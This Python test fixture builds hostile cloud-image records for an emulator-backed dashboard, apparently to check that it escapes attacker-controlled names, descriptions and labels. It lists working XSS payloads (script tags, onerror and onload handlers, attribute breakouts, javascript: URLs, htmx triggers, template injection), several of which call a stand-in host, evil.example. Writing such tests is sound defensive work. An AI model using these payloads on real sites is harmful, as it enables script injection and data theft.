"""Image records written by an attacker: what a cloud image's creator can put in its name,
description and labels, served by the emulator to the dashboard."""

from __future__ import annotations

import json

# Each sets window.__xss, opens a dialog or makes a request off site if it ever runs.
PAYLOADS = {
    "script": "<script>window.__xss = 1; alert('script')</script>",
    "script-close": "</pre></dd></dl></h1><script>window.__xss = 2; alert(2)</script>",
    "img-onerror": '<img src=x onerror="window.__xss = 3; alert(3)">',
    "svg-onload": "<svg onload=alert(4)><circle r=9 /></svg>",
    "attr-break-double": '"><img src=x onerror=alert(5) x="',
    "attr-break-single": "' autofocus onfocus='alert(6)' x='",
    "attr-break-json": '", "x": 1} \' onmouseover=\'alert(7)',
    "javascript-url": '<a id=xss href="javascript:alert(8)">click me</a>',
    "javascript-bare": "javascript:alert(9)",
    "hx-get": '<div hx-get="https://evil.example/steal" hx-trigger="load">hx</div>',
    "hx-on": '<button hx-on:click="alert(10)" hx-on::load="alert(10)">hx-on</button>',
    "hx-self": '<div hx-post="/accounts/logout/" hx-trigger="load">out</div>',
    "hx-vals-js": '<div hx-get="/" hx-vals="js:{a: alert(11)}" hx-trigger="load">js</div>',
    "iframe": '<iframe src="https://evil.example/frame"></iframe>',
    "external-img": '<img src="https://evil.example/pixel.png">',
    "style": '<style>body{background:url("https://evil.example/bg")}</style>',
    "base": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "template": "{{ 7|add:7 }}{% now 'Y' %}${7*7}",
}


def hostile_id(number: int) -> str:
    return f"fd8hostile{number:010d}"


def hostile_record(image_id: str, payload: str, *, status: str = "READY") -> bytes:
    """An image with `payload` in every string an image creator controls."""
    record = {
        "id": image_id,
        "folderId": payload,
        "createdAt": "2025-08-25T11:05:05Z",
        "name": payload,
        "description": payload,
        "labels": {payload: payload, "plain": payload},
        "family": payload,
        "storageSize": "3535798272",
        "minDiskSize": "10737418240",
        "productIds": [payload],
        "status": status,
        "os": {"type": payload},
        "pooled": True,
        "unknownField": {payload: [payload]},
    }
    return json.dumps(record).encode()
